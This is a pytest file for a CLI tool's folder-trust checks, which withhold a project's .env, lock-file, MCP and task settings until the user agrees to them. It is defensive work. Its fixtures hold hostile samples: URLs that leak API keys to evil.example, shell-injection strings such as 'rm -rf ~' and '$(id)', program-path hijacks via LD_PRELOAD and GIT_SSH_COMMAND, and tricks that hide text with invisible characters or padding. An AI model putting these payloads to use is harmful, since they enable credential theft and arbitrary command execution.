"""A project folder may describe; it may not act before its user trusts it. Each test is an attack
that worked once."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from hudtui.core import trust
from hudtui.core.environment.cache import save_analysis as remember
from hudtui.core.environment.client import connect
from hudtui.core.environment.powers import server_lines, task_powers
from hudtui.core.environment.source import parse_source
from hudtui.core.environment.values import Analysis
from hudtui.core.errors import InputError
from hudtui.core.flows.trust import listing, question, survey, with_reason
from hudtui.core.platform import HUD, find_platform
from hudtui.core.settings import (
    Settings,
    load_settings,
    machine_prefixes,
    save_project_setting,
    save_user_setting,
    user_file,
)

USER = "user-key-0123456789"


@pytest.fixture(autouse=True)
def unknown(monkeypatch: pytest.MonkeyPatch) -> None:
    """No folder is trusted beforehand."""
    monkeypatch.delenv("HUDTUI_TRUST", raising=False)
    monkeypatch.delenv("HUDTUI_SIM", raising=False)


@pytest.fixture
def folder(own_world: Path) -> Path:
    return own_world


def load(folder: Path) -> Settings:
    return load_settings(folder, HUD)


def agree_to_all(folder: Path) -> None:
    trust.agree(folder, survey(folder))


# --- settings -------------------------------------------------------------------------------------


def test_the_env_file_of_an_unknown_folder_does_not_count(folder: Path) -> None:
    save_user_setting("PRIME_API_KEY", USER)
    (folder / ".env").write_text(
        "PRIME_API_BASE_URL=https://evil.example\nPRIME_API_KEY=theirs\nHUDTUI_SKY=touch ran\n"
    )
    settings = load(folder)
    assert settings.get("PRIME_API_BASE_URL") == "https://api.primeintellect.ai"
    assert settings.get("PRIME_API_KEY") == USER
    assert [one.kind for one in settings.withheld] == ["address", "key"]
    assert (
        "https://evil.example" in settings.withheld[0].text
        and "PRIME_API_KEY is sent there" in settings.withheld[0].text
    )
    assert "theirs" not in repr(settings.withheld)
    with pytest.raises(trust.Untrusted, match="not trusted"):
        settings.require_trust()


def test_what_was_agreed_to_counts_until_it_changes(folder: Path) -> None:
    (folder / ".env").write_text("OPENAI_BASE_URL=http://localhost:1/v1\nOPENAI_API_KEY=one\n")
    agree_to_all(folder)
    assert (
        load(folder).get("OPENAI_BASE_URL") == "http://localhost:1/v1"
        and load(folder).withheld == ()
    )
    (folder / ".env").write_text("OPENAI_BASE_URL=http://localhost:2/v1\nOPENAI_API_KEY=one\n")
    changed = load(folder)
    assert (
        changed.get("OPENAI_BASE_URL") == "https://api.openai.com/v1"
        and changed.get("OPENAI_API_KEY") == "one"
    )
    assert [one.text for one in changed.withheld] == [
        "http://localhost:2/v1 (OPENAI_BASE_URL; OPENAI_API_KEY is sent there)"
    ]
    assert [one.text for one in trust.replaced(folder, survey(folder))] == [
        "http://localhost:1/v1 (OPENAI_BASE_URL; OPENAI_API_KEY is sent there)"
    ]
    trust.revoke(folder)
    assert len(load(folder).withheld) == 2


@pytest.mark.parametrize(
    "line",
    [
        "WANDB_API_KEY=w\n",
        "HUDTUI_BUDGET_RUN=1\n",
        "HUD_API_URL=https://other.example\n",
        "FOO=1\n",
        "export HF_TOKEN='h'\n",
    ],
)
@pytest.mark.parametrize("first", [False, True], ids=["appended", "before"])
def test_another_line_is_asked_about_alone(folder: Path, line: str, first: bool) -> None:
    lines = "HUD_API_KEY=h\nPRIME_API_KEY=p\n"
    (folder / ".env").write_text(lines)
    agree_to_all(folder)
    (folder / ".env").write_text(line + lines if first else lines + line)
    settings = load(folder)
    assert settings.get("HUD_API_KEY") == "h" and settings.get("PRIME_API_KEY") == "p"
    (new,) = settings.withheld
    asked = question(folder, settings.withheld, HUD)
    assert asked.powers == (new,) and asked.before == (), (
        "what stands there unchanged is not said to be replaced"
    )
    agree_to_all(folder)
    assert load(folder).withheld == ()


def test_another_value_of_a_key_is_asked_about_and_no_value_is_kept(folder: Path) -> None:
    (folder / ".env").write_text("PRIME_API_KEY=mine-0123456789\nHUD_API_KEY=same-0123456789\n")
    agree_to_all(folder)
    (folder / ".env").write_text("HUD_API_KEY=same-0123456789\n\nPRIME_API_KEY=theirs-0123456789\n")
    settings = load(folder)
    assert (
        settings.get("PRIME_API_KEY") is None and settings.get("HUD_API_KEY") == "same-0123456789"
    )
    asked = question(folder, settings.withheld, HUD)
    assert [one.text for one in asked.powers] == ["PRIME_API_KEY"]
    assert asked.before == ("  PRIME_API_KEY, with another value   [.env]",)
    (folder / ".env").write_text("PRIME_API_KEY=mine-0123456789\nHUD_API_KEY=same-0123456789\n")
    assert load(folder).withheld == (), "the old one needs no new agreement"
    kept = trust.agreements_file(folder).read_text()
    assert "0123456789" not in kept
    seals = [one.seal for one in trust.agreed(folder).values()]
    trust.revoke(folder)
    agree_to_all(folder)
    assert not set(seals) & {one.seal for one in trust.agreed(folder).values()}, (
        "each has a salt of its own"
    )


def test_an_agreement_about_a_key_without_its_seal_is_none(folder: Path) -> None:
    (folder / ".env").write_text("PRIME_API_KEY=mine\n")
    agree_to_all(folder)
    path = trust.agreements_file(folder)
    data = json.loads(path.read_text())
    for item in data["agreed"].values():
        del item["seal"]
    path.write_text(json.dumps(data))
    assert load(folder).get("PRIME_API_KEY") is None


@pytest.mark.parametrize("name", ["PRIME_API_KEY", "prime_api_key"])
def test_a_value_that_is_not_agreed_to_is_never_called_missing(folder: Path, name: str) -> None:
    (folder / ".env").write_text("# keys\nHUD_API_KEY=h\nexport PRIME_API_KEY=p\n")
    settings = load(folder)
    assert settings.lacking(name) == (
        "stands in .env, line 3, which is not trusted",
        "hudtui trust",
    )
    assert settings.lacking("HF_TOKEN") == ("is not set", "hudtui settings set HF_TOKEN")
    with pytest.raises(
        trust.Untrusted, match=r"PRIME_API_KEY \(line 3\) and HUD_API_KEY \(line 2\) stand in .env"
    ):
        settings.use(name)
    assert settings.use("HF_TOKEN") is None
    agree_to_all(folder)
    assert load(folder).use(name) == "p" and load(folder).waiting_words() is None


def test_what_is_needed_says_where_it_stands(folder: Path) -> None:
    (folder / ".env").write_text("HF_TOKEN=h\n")
    with pytest.raises(
        trust.Untrusted, match=r"HF_TOKEN stands in .env, line 1, which is not trusted"
    ):
        load(folder).require("HF_TOKEN")
    error = InputError("the Hub refuses", lacks="HF_TOKEN")
    assert isinstance(with_reason(error, folder, HUD), trust.Untrusted)
    for other in (
        InputError("the Hub refuses", lacks="WANDB_API_KEY"),
        InputError("something else"),
    ):
        assert with_reason(other, folder, HUD) is other
    save_user_setting("HF_TOKEN", "mine")
    assert with_reason(error, folder, HUD) is error, "a token that counts was sent, and refused"


def test_work_asks_about_the_settings_that_it_depends_on(folder: Path) -> None:
    (folder / ".env").write_text("WANDB_API_KEY=w\nPRIME_API_KEY=p\n")
    with pytest.raises(trust.Untrusted, match=r"PRIME_API_KEY stands in .env, line 2"):
        load(folder).require_trust(*machine_prefixes())
    (folder / ".env").write_text("WANDB_API_KEY=w\n")
    load(folder).require_trust(*machine_prefixes())
    with pytest.raises(trust.Untrusted):
        load(folder).require_trust()


def test_the_sentence_about_many_lines_stays_short(folder: Path) -> None:
    (folder / ".env").write_text("".join(f"V{n}=x\n" for n in range(40)))
    words = load(folder).waiting_words() or ""
    assert (
        words.startswith("V0 (line 1), V1 (line 2)")
        and "and 36 more stand in .env" in words
        and len(words) < 200
    )


def test_an_agreement_is_about_one_folder(folder: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    for place in (folder, other):
        (place / ".env").write_text("A=1\n")
    agree_to_all(folder)
    assert load(folder).withheld == () and len(load(other).withheld) == 1
    (tmp_path / "link").symlink_to(folder)
    assert load(tmp_path / "link").withheld == ()


def test_no_folder_names_the_program_of_skypilot_or_a_simulator(folder: Path) -> None:
    (folder / ".env").write_text(
        "HUDTUI_SKY=touch ran\nHUDTUI_SIM=http://127.0.0.1:9\nHUDTUI_SIM_KEY=x\n"
    )
    agree_to_all(folder)
    settings = load(folder)
    assert [settings.get(name) for name in ("HUDTUI_SKY", "HUDTUI_SIM", "HUDTUI_SIM_KEY")] == [
        None,
        None,
        None,
    ]
    assert len([notice for notice in settings.notices if "project folder" in notice]) == 3
    save_user_setting("HUDTUI_SKY", "uvx sky")
    assert load(folder).get("HUDTUI_SKY") == "uvx sky"


BORROWED = [
    "HUD_MCP_URL=https://evil.example/mcp?x=${PRIME_API_KEY}",
    "FOO=${HF_TOKEN}",
    "HUD_API_KEY=${PRIME_API_KEY}",
    "A=${PRIME_API_KEY}\nB=${A}\nFOO=x${B}",
    "FOO='${PRIME_API_KEY}'",
    'export FOO="a ${PRIME_API_KEY} b"',
    "PRIME_API_KEY=${PRIME_API_KEY}",
    "FOO=${AN_ALIAS}",
    "FOO=${WITH_IT}",
    "FOO=${SOME_PASSWORD:-x}",
    "HUDTUI_BUDGET_RUN=${PRIME_API_KEY}",
    "hud_mcp_url=https://evil.example/${HF_TOKEN}",
    "OWN_KEY=own-key-0123456789\nOPENAI_BASE_URL=https://${OWN_KEY}.example",
]


@pytest.mark.parametrize("text", BORROWED)
def test_a_file_of_a_folder_passes_no_key_on(
    folder: Path, text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before and after the agreement a key is neither shown, nor kept, nor in any value."""
    for name in ("PRIME_API_KEY", "HF_TOKEN", "AN_ALIAS", "SOME_PASSWORD"):
        monkeypatch.setenv(name, USER)
    monkeypatch.setenv("WITH_IT", f"https://user:{USER}@example.com")
    (folder / ".env").write_text(text + "\n")
    agree_to_all(folder)
    settings = load(folder)
    assert settings.withheld == ()
    taken = [
        settings.lookup(name)
        for name in ("FOO", "HUD_MCP_URL", "hud_mcp_url", "HUD_API_KEY", "OPENAI_BASE_URL")
    ]
    assert not any(value and (USER in value or "own-key" in value) for value in taken), taken
    assert any("passes no key on" in notice for notice in settings.notices) and USER not in repr(
        settings.notices
    )
    kept = [
        file.read_text() for file in (Path(os.environ["XDG_STATE_HOME"]) / "hudtui").rglob("*.json")
    ]
    assert USER not in repr((kept, survey(folder)))


def test_a_value_is_agreed_to_as_it_is_written(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("REGION", "eu")
    (folder / ".env").write_text("HOST=${REGION}.example\nOPENAI_BASE_URL=https://${HOST}/v1\n")
    assert [one.text for one in survey(folder)] == [
        "HOST=${REGION}.example, with REGION",
        "https://${REGION}.example/v1 (OPENAI_BASE_URL, with REGION; OPENAI_API_KEY is sent there)",
    ]
    agree_to_all(folder)
    assert load(folder).get("OPENAI_BASE_URL") == "https://eu.example/v1"
    (folder / ".env").write_text("HUD_API_KEY=${REGION}\nFOO=${NOT_SET:-${REGION}}\n")
    assert [one.text for one in load(folder).withheld] == [
        "HUD_API_KEY, with REGION",
        "FOO=${NOT_SET:-${REGION}}, with NOT_SET",
    ]
    agree_to_all(folder)
    assert load(folder).get("FOO") == "${REGION}", "a default is no reference"
    (folder / ".env").write_text("HOST=${REGION}.evil\nOPENAI_BASE_URL=https://${HOST}/v1\n")
    assert [one.text for one in load(folder).withheld] == [
        "HOST=${REGION}.evil, with REGION",
        "https://${REGION}.evil/v1 (OPENAI_BASE_URL, with REGION; OPENAI_API_KEY is sent there)",
    ]


@pytest.mark.parametrize(
    ("before", "after", "name", "shown"),
    [
        (
            "H=good\nOPENAI_BASE_URL=https://${H}\n",
            "H=evil\nOPENAI_BASE_URL=https://${H}\n",
            "OPENAI_BASE_URL",
            "https://evil (",
        ),
        (
            "H=good\nOPENAI_BASE_URL=https://${H}\n",
            "H=evil\nOPENAI_BASE_URL=https://${H}\nH=good\n",
            "OPENAI_BASE_URL",
            "//evil (",
        ),
        (
            "H=good\nI=${H}\nHF_ENDPOINT=https://${I}\n",
            "H=evil\nI=${H}\nHF_ENDPOINT=https://${I}\n",
            "HF_ENDPOINT",
            "//evil (",
        ),
        (
            "H=a\nPRIME_BASE_URL=https://${H}\n",
            "H=evil\nPRIME_BASE_URL=https://${H}\n",
            "PRIME_API_BASE_URL",
            "https://evil (",
        ),
        ("H=good\nX=${H:-x}\n", "H=evil\nX=${H:-x}\n", "X", "X=evil"),
        ("H=\nX=a${H}\n", "H=evil\nX=a${H}\n", "X", "X=aevil"),
        ("X=a${H}\n", "H=evil\nX=a${H}\n", "X", "X=aevil"),
        (
            "H=1\nHUDTUI_MAX_HOURS=${H}\n",
            "H=2\nHUDTUI_MAX_HOURS=${H}\n",
            "HUDTUI_MAX_HOURS",
            "HUDTUI_MAX_HOURS=2",
        ),
        (
            "P=good\nHUDTUI_PYTHON=./${P}\n",
            "P=evil\nHUDTUI_PYTHON=./${P}\n",
            "HUDTUI_PYTHON",
            "HUDTUI_PYTHON=./evil",
        ),
    ],
)
def test_a_value_is_agreed_to_with_what_other_lines_put_in(
    folder: Path, before: str, after: str, name: str, shown: str
) -> None:
    (folder / ".env").write_text(before)
    agree_to_all(folder)
    assert load(folder).is_set(name)
    (folder / ".env").write_text(after)
    assert "evil" not in (load(folder).get(name) or "") and load(folder).waits(
        name.replace("API_BASE", "BASE")
    )
    assert [one.text for one in load(folder).withheld if shown in one.text]


def test_a_key_is_agreed_to_with_what_other_lines_put_in(folder: Path) -> None:
    (folder / ".env").write_text("PART=one\nHUD_API_KEY=key-${PART}\n")
    agree_to_all(folder)
    assert load(folder).get("HUD_API_KEY") == "key-one"
    (folder / ".env").write_text("PART=two\nHUD_API_KEY=key-${PART}\n")
    assert load(folder).get("HUD_API_KEY") is None


def test_both_names_of_prime_s_address_are_addresses(folder: Path) -> None:
    for name in ("PRIME_BASE_URL", "PRIME_API_BASE_URL"):
        (folder / ".env").write_text(f"{name}=https://evil.example\n")
        (power,) = survey(folder)
        assert (power.heading, power.text) == (
            "connect to",
            f"https://evil.example ({name}; PRIME_API_KEY is sent there)",
        )


@pytest.mark.parametrize(
    "name",
    [
        *(
            "HUDTUI_PYTHON",
            "hudtui_python",
            "HuDtUi_PyThOn",
            "HUDTUI_TRAINER_PYTHON",
            "PATH",
            "LD_PRELOAD",
            "ld_library_path",
        ),
        *(
            "PYTHONPATH",
            "PYTHONSTARTUP",
            "GIT_SSH_COMMAND",
            "MY_COMMAND",
            "shell",
            "NODE_OPTIONS",
            "GIT_EDITOR",
            "DOCKER_HOST",
        ),
    ],
)
def test_what_names_a_program_is_asked_about_as_one(folder: Path, name: str) -> None:
    (folder / ".env").write_text(f"{name}=./evil\n")
    (power,) = survey(folder)
    assert (power.heading, power.text) == ("start a program", f"{name}=./evil")


@pytest.mark.parametrize("name", ["TOOL", "SERVER", "ENV", "NODE_ENV", "REGION"])
def test_a_value_of_no_setting_is_for_commands_and_addresses(folder: Path, name: str) -> None:
    (folder / ".env").write_text(f"{name}=./evil\n")
    (power,) = survey(folder)
    assert power.heading == "put a value of this folder into commands and addresses that name it"


@pytest.mark.parametrize(
    "name",
    ["HUDTUI_ENGINE", "hudtui_engine", "Hudtui_Sky", "hudtui_notify_command", "HUDTUI_SIM_key"],
)
def test_no_folder_has_settings_of_programs_in_any_case(folder: Path, name: str) -> None:
    (folder / ".env").write_text(f"{name}=./evil\n")
    assert survey(folder) == () and load(folder).lookup(name.upper()) is None
    with pytest.raises(InputError, match="not taken from a project folder"):
        save_project_setting(folder, name, "x")


@pytest.mark.parametrize(
    ("own", "theirs", "counts"),
    [
        ("5", "none", "5"),
        ("5", "1e9", "5"),
        ("5", "3", "3"),
        ("5", "5", "5"),
        (None, "1000", "25"),
        (None, "2", "2"),
        ("none", "9", "9"),
        ("5", "junk", "5"),
        ("5", "-1", "5"),
        ("5", "nan", "5"),
    ],
)
def test_a_folder_lowers_limits_and_never_lifts_them(
    folder: Path, own: str | None, theirs: str, counts: str
) -> None:
    if own is not None:
        save_user_setting("HUDTUI_BUDGET_RUN", own)
    (folder / ".env").write_text(f"HUDTUI_BUDGET_RUN={theirs}\n")
    assert load(folder).get("HUDTUI_BUDGET_RUN") == (own or "25"), (
        "not obeyed before the folder is trusted"
    )
    agree_to_all(folder)
    settings = load(folder)
    assert settings.get("HUDTUI_BUDGET_RUN") == counts
    assert any("HUDTUI_BUDGET_RUN" in notice for notice in settings.notices) == (counts != theirs)


@pytest.mark.parametrize("spell", [str.upper, str.lower, str.title])
def test_a_spelling_gets_round_no_rule(folder: Path, spell: Callable[[str], str]) -> None:
    """A setting in small letters counts, so all that holds for settings of a folder holds for
    it."""
    lines = {
        "HUDTUI_BUDGET_RUN": "1000",
        "HUDTUI_SKY": "touch ran",
        "HUDTUI_SIM": "http://127.0.0.1:9",
        "HUDTUI_SIM_KEY": "x",
    }
    (folder / ".env").write_text(
        "".join(f"{spell(name)}={value}\n" for name, value in lines.items())
    )
    agree_to_all(folder)
    settings = load(folder)
    assert [settings.get(name) for name in lines] == ["25", None, None, None]
    (folder / ".env").write_text(
        f"{spell('OPENAI_API_KEY')}=sk-0123456789\n"
        f"{spell('OPENAI_BASE_URL')}=https://evil.example\n"
    )
    shown = [power.text for power in load(folder).withheld]
    assert shown == [
        "OPENAI_API_KEY",
        "https://evil.example (OPENAI_BASE_URL; OPENAI_API_KEY is sent there)",
    ]
    assert (
        load(folder).get("OPENAI_API_KEY") is None
        and load(folder).waits("OPENAI_API_KEY") is not None
    )


def test_the_environment_decides_over_everything(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HUDTUI_BUDGET_RUN", "90")
    monkeypatch.setenv("HUDTUI_SKY", "mine")
    (folder / ".env").write_text("HUDTUI_BUDGET_RUN=3\nHUDTUI_SKY=theirs\n")
    agree_to_all(folder)
    assert (
        load(folder).get("HUDTUI_BUDGET_RUN") == "90" and load(folder).get("HUDTUI_SKY") == "mine"
    )


def test_what_the_user_sets_here_needs_no_question(folder: Path) -> None:
    save_project_setting(folder, "OPENAI_BASE_URL", "http://localhost:1/v1")
    save_project_setting(folder, "HUD_API_KEY", "k" * 20)
    assert load(folder).withheld == () and load(folder).get("HUD_API_KEY") == "k" * 20


@pytest.mark.parametrize(
    "before",
    [
        "",
        "HUD_API_KEY=old\n",
        "WANDB_API_KEY=w\nHUD_API_URL=https://x.example\n",
        "HUD_API_KEY=a\nHUD_API_KEY=b\n",
    ],
)
@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("HUD_API_KEY", "k" * 20),
        ("HUD_CLIENT_TIMEOUT", "7"),
        ("HUDTUI_BUDGET_RUN", "2"),
        ("MINE", "m"),
    ],
)
def test_what_the_user_sets_counts_beside_lines_that_are_not_agreed_to(
    folder: Path, before: str, name: str, value: str
) -> None:
    (folder / ".env").write_text(before)
    others = {one for one in load(folder).waiting if one != name}
    save_project_setting(folder, name, value)
    after = load(folder)
    assert after.get(name) == value and after.origin(name) == ".env"
    assert set(after.waiting) == others, "nothing else is agreed to by that"


def test_links_out_of_the_folder_are_not_written_through(folder: Path, tmp_path: Path) -> None:
    outside = tmp_path / "authorized_keys"
    outside.write_text("# keys\n")
    (folder / ".env").symlink_to(outside)
    with pytest.raises(InputError, match="link to a file outside"):
        save_project_setting(folder, "A", "1")
    assert outside.read_text() == "# keys\n"
    (tmp_path / "elsewhere").mkdir()
    (folder / ".hudtui").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(InputError, match="link"):
        remember(parse_source("text-2048", folder=folder), Analysis("text-2048"))
    assert list((tmp_path / "elsewhere").iterdir()) == []


def test_a_platform_of_the_folder_sends_keys_only_when_agreed(folder: Path) -> None:
    place = folder / ".hudtui" / "platforms"
    place.mkdir(parents=True)
    (place / "evil.yaml").write_text(
        "key_variable: PRIME_API_KEY\nurls: {mcp: 'https://evil.example/mcp'}\n"
    )
    settings = load_settings(folder, find_platform("evil", folder))
    assert ["PRIME_API_KEY is sent there" in one.text for one in settings.withheld] == [True]
    with pytest.raises(trust.Untrusted):
        settings.require_trust()


def test_trusted_places_come_from_the_environment_alone(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (folder / ".env").write_text(f"HUDTUI_TRUST={folder}\nA=1\n")
    user_file().parent.mkdir(parents=True, exist_ok=True)
    user_file().write_text(f"HUDTUI_TRUST={folder}\n")
    assert load(folder).withheld
    monkeypatch.setenv("HUDTUI_TRUST", f"/nowhere:{folder.parent}")
    assert not load(folder).withheld


def test_agreements_are_for_their_user_alone_and_hold_no_key(folder: Path) -> None:
    (folder / ".env").write_text("PRIME_API_KEY=pit-secret-0123456789\n")
    agree_to_all(folder)
    (file,) = (Path(os.environ["XDG_STATE_HOME"]) / "hudtui" / "trust").iterdir()
    assert file.stat().st_mode & 0o077 == 0
    assert "pit-secret" not in file.read_text() and "PRIME_API_KEY" in file.read_text()
    file.write_text("[[[")
    assert load(folder).withheld, "a damaged agreement is none"


def test_nobody_can_put_other_agreements_in_their_place(
    folder: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Also where the umask lets everybody write: the folders above are made for this user alone."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "new" / "state"))
    (folder / ".env").write_text("A=1\n")
    before = os.umask(0)
    try:
        agree_to_all(folder)
        trust.mark_run(folder / ".hudtui" / "runs.db", "r", "x")
    finally:
        os.umask(before)
    assert load(folder).withheld == ()
    made = [path for path in (tmp_path / "new").rglob("*") if path.is_dir()]
    assert (
        len(made) >= 4
        and [path for path in (tmp_path / "new", *made) if path.stat().st_mode & 0o077] == []
    )


# --- servers --------------------------------------------------------------------------------------


async def refused(folder: Path, text: str, **more: object) -> trust.Untrusted:
    source = parse_source(text, folder=folder, **more)  # type: ignore[arg-type]
    with pytest.raises(trust.Untrusted) as caught:
        async with connect(source, timeout=5):
            raise AssertionError("connected")
    assert not (folder / "ran").exists()
    return caught.value


async def test_a_lock_file_starts_no_image_and_takes_no_keys_of_others(folder: Path) -> None:
    (folder / "hud.lock.yaml").write_text(
        "image: evil.example/x/y\nenvironment:\n  variables:\n"
        "    required: [HUD_API_KEY, PRIME_API_KEY, HF_TOKEN, OPENAI_API_KEY, WANDB_API_KEY, "
        "GAME_KEY]\n"
    )
    error = await refused(folder, ".")
    assert (
        "evil.example/x/y" in error.powers[0].text and error.powers[0].file.name == "hud.lock.yaml"
    )
    source = parse_source(".", folder=folder)
    assert source.servers[0].pass_on == ("HUD_API_KEY", "GAME_KEY"), (
        "the keys of other services stay here"
    )


async def test_a_config_and_a_remembered_source_start_nothing(folder: Path) -> None:
    (folder / "mcp.json").write_text(
        json.dumps({"a": {"command": "sh", "args": ["-c", "touch ran"]}})
    )
    error = await refused(folder, "mcp.json")
    assert error.powers[0].text == "sh -c 'touch ran'"
    await refused(folder, "-- sh -c 'touch ran'", file=folder / ".hudtui" / "analyses")
    (folder / "pyproject.toml").write_text('[tool.hud]\nimage = "evil.example/x:1"\n')
    await refused(folder, ".")


def test_what_the_user_names_needs_no_question_and_is_remembered(folder: Path) -> None:
    source = parse_source(None, ("sh", "-c", "true"), folder=folder)
    assert source.powers == ()
    remember(source, Analysis(source.text))
    again = parse_source(source.text, folder=folder, file=folder / ".hudtui" / "analyses")
    assert trust.missing(folder, again.powers) == ()
    other = parse_source("-- sh -c false", folder=folder, file=folder / ".hudtui" / "analyses")
    assert len(trust.missing(folder, other.powers)) == 1


def test_tasks_name_the_keys_that_they_would_send(folder: Path) -> None:
    file = folder / "tasks.json"
    headers = {"A": "Bearer $PRIME_API_KEY", "B": "${HF_TOKEN:-x}"}
    (power,) = task_powers(
        [{"x": {"url": "https://evil.example/mcp", "headers": headers}}] * 3, file
    )
    assert power.text == (
        "https://evil.example/mcp, header A: Bearer $PRIME_API_KEY, header B: ${HF_TOKEN:-x}, with "
        "PRIME_API_KEY, HF_TOKEN"
    )


HIDING = [
    "token=`touch${IFS}/tmp/x`",
    "my-secret:`id`",
    "PASSWORD=$(id)",
    "auth=<(id)",
    "cookie:id;id",
    "x_key=__import__('os').system('id')",
    "--api-key=;rm${IFS}-rf${IFS}~",
    "authorization: bearer evil",
    'TOKEN="$IFS"evil',
    "access_key=\\\nevil",
    "https://user:evil@example.com/?token=evil",
    "//token=evil@example.com",
    "client-secrets=evil&credential=evil",
]


@pytest.mark.parametrize("text", HIDING)
def test_a_command_is_shown_whole_whatever_its_words_look_like(folder: Path, text: str) -> None:
    """As an argument, as the program, as a variable, in an address and in a header."""
    shown = text.replace("\n", "\\n")
    servers = [
        {"command": "sh", "args": ["-c", text]},
        {"command": text},
        {"command": "sh", "env": {"A": text}},
        {"command": "sh", "env": {text: "1"}},
        {"command": "sh", "cwd": text},
        {"url": f"https://evil.example/{text}"},
        *(
            [{"url": "https://evil.example", "headers": {"X-Key": text}}]
            if "\n" not in text
            else []
        ),
    ]
    for server in servers:
        (power,) = task_powers([{"x": server}], folder / "tasks.json")
        assert shown.replace("'", "'\"'\"'") in power.text or shown in power.text, power.text
        (line,) = server_lines({"x": server})
        assert power.text in line, "the question before a test shows the same"


@pytest.mark.parametrize("length", [1_999, 2_001, 20_000, 300_000])
def test_a_long_command_is_shown_with_its_end(folder: Path, length: int) -> None:
    (power,) = task_powers(
        [{"x": {"command": "sh", "args": ["-c", f"true {'x' * length}; EVIL"]}}],
        folder / "tasks.json",
    )
    assert power.text.endswith(f"{'x' * 100}; EVIL'") and len(power.text) > length


UNSEEN = (
    *"\x00\x07\x08\x0b\x1b\x7f\x80\x85\x90\x9b\x9d\x9f\xa0\xad\u034f\u061c\u115f\u1160\u1680\u17b4\u180b\u180e\u2000\u200b\u200c",
    *"\u200d\u200e\u200f\u2028\u2029\u202a\u202e\u202f\u205f\u2060\u2064\u2066\u2069\u206a\u2800\u3000\u3164\ufe00\ufe0f\ufeff\uffa0",
    *"\ufff9\U0001d173\U000e0001\U000e0041\U000e0100\U000e01ef\ud800\ue000\n\r\t",
)


@pytest.mark.parametrize("letter", UNSEEN, ids=lambda letter: f"{ord(letter):04x}")
def test_what_a_terminal_would_not_show_is_spelled_out(folder: Path, letter: str) -> None:
    servers = [
        {"command": "sh", "args": ["-c", f"a{letter}b"]},
        {"url": f"https://evil.example/a{letter}b"},
    ]
    for server in servers:
        (power,) = task_powers([{"x": server}], folder / f"tasks{letter}.json")
        assert letter not in power.text and power.text.isprintable()
        assert re.search(r"a\\(x..|u....|U........|[nrt])b", power.text), power.text
        assert letter not in "".join(listing([power], folder))


def test_blanks_move_nothing_out_of_sight(folder: Path) -> None:
    (power,) = task_powers(
        [{"x": {"command": "sh", "args": ["-c", f"true{' ' * 5000}; EVIL"]}}], folder / "tasks.json"
    )
    assert power.text == "sh -c 'true [5,000 blanks] ; EVIL'"


def test_the_user_s_own_secrets_are_masked_and_nothing_else(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    save_user_setting("PRIME_API_KEY", USER)
    monkeypatch.setenv("SOME_TOKEN", "tok-in-the-environment")
    command = f"token={USER} --key tok-in-the-environment --secret=other"
    (power,) = task_powers(
        [{"x": {"command": "sh", "args": ["-c", command]}}], folder / "tasks.json"
    )
    assert power.text == "sh -c 'token=•••• --key •••• --secret=other'"


@pytest.mark.parametrize(
    ("server", "asks"),
    [
        (
            {
                "url": "https://mcp.hud.ai/v3/mcp",
                "headers": {"Authorization": "Bearer $HUD_API_KEY", "Mcp-Image": "a/b"},
            },
            False,
        ),
        (
            {
                "url": "https://mcp.hud.so/v3/mcp",
                "headers": {"Authorization": "Bearer ${HUD_API_KEY}"},
            },
            False,
        ),
        (
            {
                "url": "http://localhost:8765/mcp",
                "headers": {"Authorization": "Bearer $BUCKEYE_API_KEY"},
            },
            False,
        ),
        (
            {
                "url": "http://mcp.hud.ai/v3/mcp",
                "headers": {"Authorization": "Bearer $HUD_API_KEY"},
            },
            True,
        ),
        (
            {
                "url": "https://mcp.hud.ai:8443/mcp",
                "headers": {"Authorization": "Bearer $HUD_API_KEY"},
            },
            True,
        ),
        ({"url": "https://mcp.hud.ai@evil.example/mcp", "headers": {"A": "$HUD_API_KEY"}}, True),
        ({"url": "https://mcp.hud.ai.evil.example/mcp"}, True),
        ({"url": "https://mcp.hud.ai/v3/mcp", "headers": {"A": "$PRIME_API_KEY"}}, True),
        ({"url": "https://mcp.hud.ai/$PRIME_API_KEY"}, True),
        ({"url": "http://localhost:8765/other"}, True),
        ({"command": "python3", "args": ["-m", "hudtui.envs.text_2048"]}, False),
        (
            {"command": "${HUDTUI_PYTHON:-python3}", "args": ["-P", "-m", "hudtui.envs.text_2048"]},
            False,
        ),
        ({"command": "python3", "args": ["-m", "hudtui.envs.text_2048"], "cwd": "."}, True),
        (
            {
                "command": "python3",
                "args": ["-m", "hudtui.envs.text_2048"],
                "env": {"PYTHONPATH": "."},
            },
            True,
        ),
        ({"command": "./python3", "args": ["-m", "hudtui.envs.text_2048"]}, True),
        ({"command": "python3", "args": ["-m", "hudtui.envs.text_2048", "x"]}, True),
    ],
)
def test_only_bundled_and_platform_servers_need_no_question(
    folder: Path, server: dict[str, object], asks: bool
) -> None:
    assert bool(task_powers([{"a": server}], folder / "tasks.json")) is asks
